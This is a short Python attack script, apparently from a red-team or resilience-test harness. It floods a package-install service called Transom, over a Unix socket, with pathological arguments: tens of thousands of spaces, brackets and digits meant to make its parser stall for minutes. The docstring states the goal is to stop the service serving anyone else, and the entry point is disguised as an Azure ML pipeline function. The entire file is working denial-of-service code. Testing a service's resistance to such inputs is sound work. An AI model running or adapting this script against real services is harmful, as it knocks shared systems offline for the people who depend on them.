"""Asks Transom what takes it minutes to read, in which it does nothing else for anybody."""

import json
import os
import socket

from attack import attack, job_folder

TEXTS = ["a" + " " * 60000 + "b", ".whl[" * 40000, "a>=" + "1" * 60000 + ".x", "a[" + "b," * 40000]


def ask(text):
    with socket.socket(socket.AF_UNIX) as made:
        made.settimeout(3)
        made.connect(os.environ.get("TRANSOM_LINK") or os.path.join(job_folder(), "link"))
        facts = {"arguments": ["--no-index", text, "-r", "r.txt"], "texts": {"r.txt": "IA=="}}
        made.sendall(json.dumps({"question": "packages/install", "facts": facts}).encode() + b"\n")
        made.recv(65536)


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    for text in TEXTS:
        try:
            ask(text)
        except OSError:
            continue
    return ""
